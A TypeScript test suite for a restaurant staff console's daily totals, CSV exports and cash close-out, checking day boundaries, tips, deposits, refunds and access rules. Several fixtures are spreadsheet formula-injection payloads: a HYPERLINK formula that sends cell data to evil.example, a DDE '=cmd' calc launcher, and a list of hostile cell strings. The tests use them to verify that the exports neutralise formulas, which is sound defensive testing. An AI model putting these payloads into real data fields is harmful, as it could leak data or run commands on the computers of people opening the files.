import { toMinorUnits } from "@tablewise/domain/rules/money";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { staffDayCall, type StaffDay } from "@tablewise/domain/contract/staff";
import { dayCloseOutCall } from "@tablewise/domain/contract/day";
import { orders, payments, reservations, setupChanges } from "../../db/schema";
import { importVenue, parseVenueFile } from "../../seed/import-venue";
import { fixtureVenueFile } from "../../test/fixture-venue";
import { createTestApp } from "../../test/test-app";
import { asStaff, testStaffAuthenticator } from "../../test/staff-console";
import { errorOf } from "../../test/eat-in";
import { demoStaffToken } from "../staff/staff-auth";
import { closeOutCsv, csvCell, dayCsv } from "./day-csv";

// The day's orders and money, in the venue's zone (Europe/Kyiv: UTC+2 in winter, +3
// from the last Sunday of March), and its CSV.
const evilWaiter = '=HYPERLINK("http://evil.example/?d="&A1,"x")';
let t: Awaited<ReturnType<typeof createTestApp>>;
// 00:30 on 5 March in Kyiv, still 4 March in UTC.
const now = new Date("2031-03-04T22:30:00Z");

let serial = 0;
async function order(id: string, createdAt: string, more: Partial<typeof orders.$inferInsert> = {}) {
  const at = new Date(createdAt);
  serial += 1;
  await t.db.db.insert(orders).values({
    id,
    venueId: "fx-venue",
    orderType: "inside",
    sectionName: "Hall",
    tableName: "2",
    status: "closed",
    serial,
    localId: String(serial),
    lines: [],
    createdBy: "test",
    createdAt: at,
    updatedAt: at,
    ...more,
  });
}
type PaymentInput = {
  method: "cash" | "card" | "online";
  status: (typeof payments.$inferInsert)["status"];
  amount: number;
  tip?: number;
  waiterId?: string | null;
  createdAt: string;
  settledAt?: string;
  refundedAt?: string;
};
async function payment(id: string, orderId: string, p: PaymentInput) {
  await t.db.db.insert(payments).values({
    id,
    publicId: `pub-${id}`,
    orderId,
    method: p.method,
    status: p.status,
    items: [],
    // The fixtures name decimals as the console reads them; rows hold minor units.
    amount: toMinorUnits(p.amount),
    tip: toMinorUnits(p.tip ?? 0),
    waiterId: p.waiterId ?? null,
    returnPath: "/",
    createdAt: new Date(p.createdAt),
    settledAt: p.settledAt ? new Date(p.settledAt) : null,
    refundedAt: p.refundedAt ? new Date(p.refundedAt) : null,
  });
}
// A reservation and its deposit (decimals as the console reads them; the row holds minor units).
async function deposit(
  id: string,
  d: { amount: number; paidAt?: string; refundedAt?: string; venueId?: string; firstName?: string },
) {
  const at = new Date(d.paidAt ?? "2031-03-01T10:00:00Z");
  await t.db.db.insert(reservations).values({
    id,
    venueId: d.venueId ?? "fx-venue",
    status: "confirmed",
    firstName: d.firstName ?? "Olena",
    lastName: "Koval",
    phone: "+380441234567",
    email: "olena@example.com",
    persons: 4,
    startsAt: new Date("2031-03-07T17:00:00Z"),
    service: { product_id: "table", name: "Table", price: 0, variants: [] },
    deposit: toMinorUnits(d.amount),
    paid: d.paidAt !== undefined,
    paymentId: `pay-${id}`,
    createdAt: at,
    paidAt: d.paidAt ? at : null,
    refundedAt: d.refundedAt ? new Date(d.refundedAt) : null,
    updatedAt: at,
  });
}
const paid = (
  method: PaymentInput["method"],
  amount: number,
  at: string,
  more: Partial<PaymentInput> = {},
) => ({
  method,
  status: "paid" as const,
  amount,
  createdAt: at,
  settledAt: at,
  ...more,
});

beforeAll(async () => {
  t = await createTestApp({
    seed: "fixture",
    clock: () => now,
    app: { staffAuthenticator: testStaffAuthenticator },
  });
  const file = fixtureVenueFile();
  file.venue.tips = {
    enabled: true,
    mode: "personal",
    waiters: [
      { _id: "w-anna", name: "Anna", role: "waiter" },
      { _id: "w-evil", name: evilWaiter, role: "waiter" },
    ],
  };
  file.tables = [...(file.tables ?? []), { code: "900003", section_name: "Hall", table_name: "+1" }];
  await importVenue(t.db.db, parseVenueFile(file, "fixture"));
  await importVenue(
    t.db.db,
    parseVenueFile(
      {
        ...fixtureVenueFile({ id: "fx-other", link: "other-cafe" }),
        tables: [{ code: "900101", section_name: "Hall", table_name: "1" }],
      },
      "other",
    ),
  );
  const west = fixtureVenueFile({ id: "fx-west", link: "west-cafe" });
  west.venue.timezone = "America/Bogota";
  west.tables = [{ code: "900201", section_name: "Hall", table_name: "1" }];
  await importVenue(t.db.db, parseVenueFile(west, "west"));
  // 4 March in Kyiv is [3 March 22:00 UTC, 4 March 22:00 UTC).
  await order("o-midnight", "2031-03-03T22:00:00Z", { tableName: "+1" });
  await payment(
    "p-cash",
    "o-midnight",
    paid("cash", 100, "2031-03-03T22:05:00Z", { tip: 10, waiterId: "w-anna" }),
  );
  await payment(
    "p-card",
    "o-midnight",
    paid("card", 50, "2031-03-04T10:00:00Z", { tip: 5, waiterId: "w-evil" }),
  );
  await order("o-delivery", "2031-03-04T12:00:00Z", { orderType: "delivery", tableName: "" });
  await payment("p-online", "o-delivery", paid("online", 80, "2031-03-04T12:01:00Z"));
  await order("o-cancelled", "2031-03-04T13:00:00Z", { status: "cancelled" });
  await payment("p-rejected", "o-cancelled", {
    method: "cash",
    status: "rejected",
    amount: 30,
    createdAt: "2031-03-04T13:01:00Z",
  });
  await order("o-split", "2031-03-04T14:00:00Z", { tableName: "1" });
  // Held at the gateway, not captured: not money yet; its tip is not counted either.
  await payment(
    "p-held",
    "o-split",
    paid("online", 40, "2031-03-04T14:05:00Z", { status: "held", tip: 4, waiterId: "w-anna" }),
  );
  // A split part refunded when its window ran out (SPEC §4).
  await payment(
    "p-refunded",
    "o-split",
    paid("online", 20, "2031-03-04T14:06:00Z", {
      status: "refunded",
      tip: 2,
      refundedAt: "2031-03-04T14:30:00Z",
    }),
  );
  // Promised cash the waiter has not confirmed.
  await payment("p-requested", "o-split", {
    method: "card",
    status: "requested",
    amount: 25,
    createdAt: "2031-03-04T14:10:00Z",
  });
  await payment("p-nowaiter", "o-split", paid("cash", 60, "2031-03-04T15:00:00Z", { tip: 6 }));
  // The edges of the day.
  await order("o-before", "2031-03-03T21:59:59Z");
  await payment("p-before", "o-before", paid("cash", 1000, "2031-03-03T21:59:59Z"));
  await order("o-late", "2031-03-04T21:59:59Z");
  await payment("p-late", "o-late", paid("cash", 7, "2031-03-04T21:59:59Z"));
  await payment("p-next", "o-late", paid("cash", 500, "2031-03-04T22:00:00Z"));
  // Another venue's money never shows.
  await order("o-other", "2031-03-04T12:00:00Z", { venueId: "fx-other" });
  await payment(
    "p-other",
    "o-other",
    paid("cash", 999, "2031-03-04T12:00:00Z", { tip: 99, waiterId: "w-anna" }),
  );
  // Deposits: paid on the 4th (one given back since, one named as a formula), paid the day before, not
  // paid, and another venue's.
  await deposit("r-paid", { amount: 300, paidAt: "2031-03-04T09:00:00Z", firstName: "=cmd|' /C calc'!A0" });
  await deposit("r-refunded", {
    amount: 150,
    paidAt: "2031-03-04T11:00:00Z",
    refundedAt: "2031-03-06T08:00:00Z",
  });
  await deposit("r-before", { amount: 1000, paidAt: "2031-03-03T21:59:00Z" });
  await deposit("r-unpaid", { amount: 70 });
  await deposit("r-other", { amount: 999, paidAt: "2031-03-04T09:00:00Z", venueId: "fx-other" });
  // 23:30 on 10 March in Kyiv (UTC+2) is 21:30 UTC, the same day; in Bogotá (UTC−5) it is 04:30 UTC on
  // the 11th, still the 10th at the venue.
  await order("o-kyiv-late", "2031-03-10T21:30:00Z");
  await payment("p-kyiv-late", "o-kyiv-late", paid("cash", 12.34, "2031-03-10T21:30:00Z", { tip: 0.66 }));
  await order("o-west-late", "2031-03-11T04:30:00Z", { venueId: "fx-west" });
  await payment("p-west-late", "o-west-late", paid("card", 43.21, "2031-03-11T04:30:00Z", { tip: 1.79 }));
  await deposit("r-west-late", { amount: 25, paidAt: "2031-03-11T04:30:00Z", venueId: "fx-west" });
  // 30 March 2031 is 23 hours long in Kyiv: it ends at 21:00 UTC.
  await order("o-dst", "2031-03-30T20:00:00Z");
  await payment("p-dst-in", "o-dst", paid("card", 11, "2031-03-30T20:59:00Z"));
  await payment("p-dst-out", "o-dst", paid("card", 13, "2031-03-30T21:30:00Z"));
});
afterAll(() => t.close());

const manager = asStaff("fx-venue", "manager");
const get = (url: string, headers: Record<string, string> = manager) =>
  t.app.inject({ method: "GET", url, headers });
async function dayOf(date?: string, headers = manager) {
  const res = await get(`/api/staff/venues/fx-venue/day${date ? `?date=${date}` : ""}`, headers);
  expect(res.statusCode, res.body).toBe(200);
  return staffDayCall.response.parse(res.json()).data;
}

describe("the day view", () => {
  it("sums the confirmed money per method, tips per waiter, refunds and the orders of the venue's day", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.date).toBe("2031-03-04");
    expect(day.currency).toBe("₴");
    expect(day.time_zone).toBe("Europe/Kyiv");
    expect(day.orders_count).toBe(5);
    expect(day.cancelled_count).toBe(1);
    // Each method's net: sales + tips + deposits − refunds (cash 167 + 16 tips; online 100 taken, 20 of
    // it and its tip of 2 given back, 450 of deposits, 150 of them given back).
    expect(day.totals).toEqual({ cash: 183, card: 55, online: 380, all: 618 });
    expect(day.tips).toEqual([
      { waiter_id: "w-anna", waiter_name: "Anna", amount: 10 },
      { waiter_id: null, waiter_name: "No waiter", amount: 6 },
      { waiter_id: "w-evil", waiter_name: evilWaiter, amount: 5 },
    ]);
    expect(day.refunds).toEqual({ count: 2, amount: 172 });
    expect(day.payments.map((p) => [p.amount, p.status])).toEqual([
      [100, "paid"],
      [50, "paid"],
      [80, "paid"],
      [30, "rejected"],
      [40, "held"],
      [20, "refunded"],
      [25, "requested"],
      [60, "paid"],
      [7, "paid"],
    ]);
    const first = day.payments[0]!;
    expect(first).toMatchObject({
      at: "2031-03-03T22:05:00.000Z",
      order_type: "inside",
      table_name: "+1",
      method: "cash",
      tip: 10,
      refunded: 0,
      waiter_name: "Anna",
    });
    expect(day.payments.find((p) => p.method === "online" && p.amount === 80)).toMatchObject({
      order_type: "delivery",
      table_name: null,
    });
    expect(day.payments.find((p) => p.status === "refunded")?.refunded).toBe(22);
  });

  it("splits sales, tips, deposits and refunds per pay method, and all nets them to the kopiyka", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.money).toEqual({
      cash: { sales: 167, tips: 16, deposits: 0, refunds: 0, net: 183 },
      card: { sales: 50, tips: 5, deposits: 0, refunds: 0, net: 55 },
      online: { sales: 100, tips: 2, deposits: 450, refunds: 172, net: 380 },
      all: { sales: 317, tips: 23, deposits: 450, refunds: 172, net: 618 },
    });
    const kyiv = await dayOf("2031-03-10");
    expect(kyiv.money.cash).toEqual({ sales: 12.34, tips: 0.66, deposits: 0, refunds: 0, net: 13 });
  });

  it("lists the deposits paid that day, paid and refunded, with the reservation, time, amount and method", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.deposits).toEqual([
      {
        at: "2031-03-04T09:00:00.000Z",
        guest_name: "=cmd|' /C calc'!A0 Koval",
        starts_at: "2031-03-07T17:00:00.000Z",
        persons: 4,
        method: "online",
        status: "paid",
        amount: 300,
        refunded: 0,
      },
      {
        at: "2031-03-04T11:00:00.000Z",
        guest_name: "Olena Koval",
        starts_at: "2031-03-07T17:00:00.000Z",
        persons: 4,
        method: "online",
        status: "refunded",
        amount: 150,
        refunded: 150,
      },
    ]);
    expect((await dayOf("2031-03-03")).deposits.map((d) => d.amount)).toEqual([1000]);
  });

  it("bounds the day by the venue's midnight: 23:30 local lands on that day at UTC+2 and at UTC−5", async () => {
    expect((await dayOf("2031-03-10")).totals.cash).toBe(13);
    expect((await dayOf("2031-03-11")).totals.cash).toBe(0);
    const west = async (date: string) => {
      const res = await get(`/api/staff/venues/fx-west/day?date=${date}`, asStaff("fx-west", "manager"));
      expect(res.statusCode, res.body).toBe(200);
      return staffDayCall.response.parse(res.json()).data;
    };
    const tenth = await west("2031-03-10");
    expect(tenth.time_zone).toBe("America/Bogota");
    expect(tenth.money.card).toEqual({ sales: 43.21, tips: 1.79, deposits: 0, refunds: 0, net: 45 });
    expect(tenth.deposits.map((d) => d.amount)).toEqual([25]);
    expect(tenth.totals.all).toBe(70);
    const eleventh = await west("2031-03-11");
    expect(eleventh.totals.all).toBe(0);
    expect(eleventh.deposits).toEqual([]);
  });

  it("names each payment's order by id, and an eat-in one's hall, so the console links and tells tables apart", async () => {
    const day = await dayOf("2031-03-04");
    expect(day.payments[0]).toMatchObject({ order_id: "o-midnight", section_name: "Hall", table_name: "+1" });
    expect(day.payments.find((p) => p.amount === 80)).toMatchObject({
      order_id: "o-delivery",
      order_type: "delivery",
      section_name: null,
    });
  });

  it("is the venue's wall-clock day: today at 00:30 in Kyiv is the 5th, and a DST day has 23 hours", async () => {
    const today = await dayOf();
    expect(today.date).toBe("2031-03-05");
    expect(today.totals).toEqual({ cash: 500, card: 0, online: 0, all: 500 });
    expect(today.orders_count).toBe(0);
    expect((await dayOf("2031-03-03")).totals.cash).toBe(1000);
    expect((await dayOf("2031-03-30")).totals.card).toBe(11);
    expect((await dayOf("2031-03-31")).totals.card).toBe(13);
  });

  it("answers zeros for a day with nothing, 400 for a date that is not one", async () => {
    const zero = { sales: 0, tips: 0, deposits: 0, refunds: 0, net: 0 };
    expect(await dayOf("2031-01-01")).toEqual({
      date: "2031-01-01",
      currency: "₴",
      orders_count: 0,
      cancelled_count: 0,
      time_zone: "Europe/Kyiv",
      totals: { cash: 0, card: 0, online: 0, all: 0 },
      tips: [],
      refunds: { count: 0, amount: 0 },
      money: { cash: zero, card: zero, online: zero, all: zero },
      deposits: [],
      close_outs: [],
      adjustments: {
        unpaid: { count: 0, amount: 0 },
        void: { count: 0, amount: 0 },
        comp: { count: 0, amount: 0 },
        discount: { count: 0, amount: 0 },
        list: [],
      },
      suggestions: { taken: 0, pairs: [] },
      ratings: { count: 0, average: null, low: [] },
      payments: [],
    });
    for (const bad of ["2031-02-30", "yesterday", "2031-3-4"]) {
      const res = await get(`/api/staff/venues/fx-venue/day?date=${bad}`);
      expect(res.statusCode, bad).toBe(400);
      expect(errorOf(res).code).toBe("validation_failed");
    }
  });

  it("is the manager's and the waiters', not the kitchen's nor another venue's", async () => {
    expect((await dayOf("2031-03-04", asStaff("fx-venue", "waiter"))).totals.all).toBe(618);
    expect((await get("/api/staff/venues/fx-venue/day", asStaff("fx-venue", "kitchen"))).statusCode).toBe(
      403,
    );
    expect((await get("/api/staff/venues/fx-venue/day", asStaff("fx-other", "manager"))).statusCode).toBe(
      403,
    );
    expect((await get("/api/staff/venues/fx-venue/day", {})).statusCode).toBe(401);
    // The service credential (a POS) is venue-wide: an unknown venue is 404 to it.
    const service = { authorization: `Bearer ${demoStaffToken}` };
    expect((await get("/api/staff/venues/nowhere/day", service)).statusCode).toBe(404);
    expect((await dayOf("2031-03-04", service)).totals.all).toBe(618);
  });
});

// Every piece of every row when a reader splits on `,`, on `;` and on any line break (quotes ignored, as a
// naive reader does) whose text, past spaces and quotes, starts a formula; a number (the amounts) is none.
function formulaCells(rows: string[]): string[] {
  return rows
    .flatMap((row) => row.split(/[,;\r\n]/))
    .map((piece) => piece.replace(/^[ "]*/, ""))
    .filter((piece) => /^[=+\-@\t\r]/.test(piece) && !/^-?\d+(\.\d+)?$/.test(piece));
}

describe("the day's CSV (DESIGN.md §6)", () => {
  const csvUrl = "/api/staff/venues/fx-venue/day.csv?date=2031-03-04";
  const header =
    "time,time_zone,kind,order,reservation,reservation_time,type,table,waiter,method,status,amount,tip,refunded,currency";

  it("lists the same payments, RFC 4180 quoted, UTF-8 with a BOM, formulas neutralised", async () => {
    const res = await get(csvUrl);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="fixture-cafe-2031-03-04.csv"');
    expect(res.headers["cache-control"]).toBe("private, no-store");
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString("utf8").slice(1).split("\r\n");
    expect(lines.pop()).toBe("");
    expect(lines[0]).toBe(header);
    expect(lines).toHaveLength(12);
    // In the venue's time (Kyiv, UTC+2 in March), its zone named. The table "+1" and the waiter named as a
    // formula are text; the formula's quotes are doubled.
    expect(lines[1]).toBe(
      "2031-03-04T00:05:00+02:00,Europe/Kyiv,payment,1,,,inside,'+1,Anna,cash,paid,100,10,0,₴",
    );
    // The deposits go among the payments by the time their money came in; a guest named as a formula is text.
    expect(lines[2]).toBe(
      "2031-03-04T11:00:00+02:00,Europe/Kyiv,deposit,,'=cmd|' /C calc'!A0 Koval,2031-03-07T19:00:00+02:00,reservation,,,online,paid,300,0,0,₴",
    );
    expect(lines[3]).toBe(
      `2031-03-04T12:00:00+02:00,Europe/Kyiv,payment,1,,,inside,'+1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",card,paid,50,5,0,₴`,
    );
    expect(lines[4]).toBe(
      "2031-03-04T13:00:00+02:00,Europe/Kyiv,deposit,,Olena Koval,2031-03-07T19:00:00+02:00,reservation,,,online,refunded,150,0,150,₴",
    );
    expect(lines.some((l) => l.includes(",=") || l.includes(",+") || l.includes(',"='))).toBe(false);
    expect(formulaCells(lines)).toEqual([]);
    expect(lines[5]).toBe(
      "2031-03-04T14:01:00+02:00,Europe/Kyiv,payment,2,,,delivery,,,online,paid,80,0,0,₴",
    );
    expect(lines[11]).toBe("2031-03-04T23:59:59+02:00,Europe/Kyiv,payment,6,,,inside,2,,cash,paid,7,0,0,₴");
  });

  it("writes a UTC−5 venue's 23:30 as that evening, with its offset", async () => {
    const res = await get("/api/staff/venues/fx-west/day.csv?date=2031-03-10", asStaff("fx-west", "manager"));
    const lines = res.rawPayload.toString("utf8").slice(1).split("\r\n");
    expect(lines.slice(1, 3)).toEqual([
      "2031-03-10T23:30:00-05:00,America/Bogota,payment,9,,,inside,2,,card,paid,43.21,1.79,0,₴",
      "2031-03-10T23:30:00-05:00,America/Bogota,deposit,,Olena Koval,2031-03-07T12:00:00-05:00,reservation,,,online,paid,25,0,0,₴",
    ]);
  });

  it("is the manager's only", async () => {
    expect((await get(csvUrl, asStaff("fx-venue", "waiter"))).statusCode).toBe(403);
    expect((await get(csvUrl, asStaff("fx-other", "manager"))).statusCode).toBe(403);
    expect((await get("/api/staff/venues/fx-venue/day.csv?date=2031-02-30")).statusCode).toBe(400);
    const empty = await get("/api/staff/venues/fx-venue/day.csv?date=2031-01-01");
    expect(empty.rawPayload.toString("utf8")).toBe(`\uFEFF${header}\r\n`);
  });

  it("leaves no formula where a spreadsheet splits on ; (or on , or a line break inside a quoted field)", () => {
    const hostile = [
      "T9;=cmd|' /C calc'!A0",
      "a,=1+1",
      'x; "=HYPERLINK(""http://evil.example"")',
      "ok;+1;-1;@SUM(A1)",
      "two\r\n=lines",
      "one\n@line",
      "tab;\t=1",
      "cr;\r=1",
      "; =spaced",
    ];
    const zero = { sales: 0, tips: 0, deposits: 0, refunds: 0, net: 0 };
    const day: StaffDay = {
      date: "2031-03-04",
      currency: "=1+1",
      time_zone: "UTC",
      orders_count: 1,
      cancelled_count: 0,
      totals: { cash: 0, card: 0, online: 0, all: 0 },
      tips: [],
      refunds: { count: 0, amount: 0 },
      money: { cash: zero, card: zero, online: zero, all: zero },
      deposits: hostile.map((text) => ({
        at: "2031-03-04T10:00:00.000Z",
        guest_name: text,
        starts_at: "2031-03-04T18:00:00.000Z",
        persons: 2,
        method: "online",
        status: "paid",
        amount: 1,
        refunded: 0,
      })),
      close_outs: hostile.map((text, i) => ({
        version: hostile.length - i,
        at: "2031-03-04T22:00:00.000Z",
        staff_name: text,
        expected_cash: -5,
        counted_cash: 0,
        difference: 5,
        note: text,
      })),
      payments: hostile.map((text, i) => ({
        at: "2031-03-04T10:00:00.000Z",
        order_serial: i + 1,
        order_type: text,
        table_name: text,
        method: "cash",
        status: text,
        amount: -100,
        tip: 0,
        refunded: 0,
        waiter_name: text,
      })),
    };
    const csv = dayCsv(day);
    expect(csv).toContain(`"T9;'=cmd|' /C calc'!A0"`);
    expect(formulaCells(csv.slice(1).split("\r\n"))).toEqual([]);
    const closeOut = closeOutCsv(day);
    expect(closeOut).toContain(`"T9;'=cmd|' /C calc'!A0"`);
    expect(formulaCells(closeOut.slice(1).split("\r\n"))).toEqual([]);
  });

  it("neutralises every formula start OWASP names, and only strings", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      expect(csvCell(`${start}1`).replace(/^"/, "")).toMatch(/^'/);
    expect(csvCell("-5")).toBe("'-5");
    expect(csvCell("a\r\nb")).toBe('"a\r\nb"');
    expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvCell(12.5)).toBe("12.5");
    expect(csvCell(null)).toBe("");
    expect(csvCell("Олена")).toBe("Олена");
  });
});

describe("the end-of-shift close-out", () => {
  const url = "/api/staff/venues/fx-venue/day/close-out";
  const post = (payload: unknown, headers: Record<string, string> = manager) =>
    t.app.inject({ method: "POST", url, headers, payload: payload as object });

  it("stores who closed the day, when, the expected and counted cash and their difference, and logs it", async () => {
    const res = await post({ date: "2031-03-04", counted_cash: 183 });
    expect(res.statusCode, res.body).toBe(201);
    expect(dayCloseOutCall.response.parse(res.json()).data.close_out).toEqual({
      version: 1,
      at: now.toISOString(),
      staff_name: "Test manager",
      expected_cash: 183,
      counted_cash: 183,
      difference: 0,
      note: null,
    });
    const rows = await t.db.db.select().from(setupChanges);
    expect(rows.filter((r) => r.kind === "day_close")).toEqual([
      expect.objectContaining({
        venueId: "fx-venue",
        staffName: "Test manager",
        targetId: "2031-03-04",
        summary: "day 2031-03-04 closed (version 1): cash expected 183.00, counted 183.00, difference 0.00",
      }),
    ]);
  });

  it("is redone as a new version, the earlier kept, a short drawer a negative difference", async () => {
    const res = await post({ date: "2031-03-04", counted_cash: 180.5, note: "  2.50 short, one 5 missing " });
    expect(res.statusCode, res.body).toBe(201);
    const day = await dayOf("2031-03-04");
    expect(day.close_outs.map((c) => [c.version, c.counted_cash, c.difference, c.note])).toEqual([
      [2, 180.5, -2.5, "2.50 short, one 5 missing"],
      [1, 183, 0, null],
    ]);
    // The waiters see the day as it was closed; another day has none.
    expect((await dayOf("2031-03-04", asStaff("fx-venue", "waiter"))).close_outs).toHaveLength(2);
    expect((await dayOf("2031-03-03")).close_outs).toEqual([]);
    const changes = await t.db.db.select().from(setupChanges);
    expect(changes.filter((r) => r.kind === "day_close").map((r) => r.summary)).toContain(
      "day 2031-03-04 closed (version 2): cash expected 183.00, counted 180.50, difference -2.50",
    );
  });

  it("gives the close-out table as CSV: each method's parts and net, the drawer on the cash row", async () => {
    const res = await get(`${url}.csv?date=2031-03-04`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers["content-disposition"]).toBe(
      'attachment; filename="fixture-cafe-2031-03-04-close-out.csv"',
    );
    expect(res.headers["cache-control"]).toBe("private, no-store");
    const lines = res.rawPayload.toString("utf8").slice(1).split("\r\n");
    expect(lines).toEqual([
      "date,time_zone,method,sales,tips,deposits,refunds,net,expected_cash,counted_cash,difference,closed_by,closed_at,version,note,currency",
      `2031-03-04,Europe/Kyiv,cash,167,16,0,0,183,183,180.5,-2.5,Test manager,2031-03-05T00:30:00+02:00,2,"2.50 short, one 5 missing",₴`,
      "2031-03-04,Europe/Kyiv,card,50,5,0,0,55,,,,,,,,₴",
      "2031-03-04,Europe/Kyiv,online,100,2,450,172,380,,,,,,,,₴",
      "2031-03-04,Europe/Kyiv,all,317,23,450,172,618,,,,,,,,₴",
      "",
    ]);
    expect((await get(`${url}.csv?date=2031-03-04`, asStaff("fx-venue", "waiter"))).statusCode).toBe(403);
  });

  it("is a manager's of the venue only: not a waiter's, the kitchen's, the service credential's or another venue's", async () => {
    const body = { date: "2031-03-04", counted_cash: 1 };
    for (const role of ["waiter", "kitchen"] as const)
      expect((await post(body, asStaff("fx-venue", role))).statusCode, role).toBe(403);
    expect((await post(body, asStaff("fx-other", "manager"))).statusCode).toBe(403);
    expect((await post(body, { authorization: `Bearer ${demoStaffToken}` })).statusCode).toBe(403);
    expect((await post(body, {})).statusCode).toBe(401);
    expect((await dayOf("2031-03-04")).close_outs).toHaveLength(2);
  });

  it("answers 400, never 500, to a count, a date or a note that is not one", async () => {
    const bad: unknown[] = [
      {},
      { date: "2031-03-04" },
      { date: "2031-03-04", counted_cash: -1 },
      { date: "2031-03-04", counted_cash: 1.005 },
      { date: "2031-03-04", counted_cash: "100" },
      { date: "2031-03-04", counted_cash: 1e12 },
      { date: "2031-03-04", counted_cash: null },
      { date: "2031-02-30", counted_cash: 1 },
      { date: "04.03.2031", counted_cash: 1 },
      // Tomorrow at the venue (it is 00:30 on the 5th there): no drawer to count yet.
      { date: "2031-03-06", counted_cash: 1 },
      { date: "2031-03-04", counted_cash: 1, note: "x".repeat(501) },
      { date: "2031-03-04", counted_cash: 1, note: 5 },
      { date: "2031-03-04", counted_cash: 1, expected_cash: 1 },
      [],
      ["2031-03-04", 1],
    ];
    for (const payload of bad) {
      const res = await post(payload);
      expect(res.statusCode, JSON.stringify(payload)).toBe(400);
      expect(errorOf(res).code).toBeTypeOf("string");
    }
    const text = await t.app.inject({
      method: "POST",
      url,
      headers: { ...manager, "content-type": "application/json" },
      payload: "{not json",
    });
    expect(text.statusCode).toBe(400);
    expect((await dayOf("2031-03-04")).close_outs).toHaveLength(2);
    // Today at the venue may be closed (the 5th, 00:30 there).
    expect((await post({ date: "2031-03-05", counted_cash: 500 })).statusCode).toBe(201);
  });
});
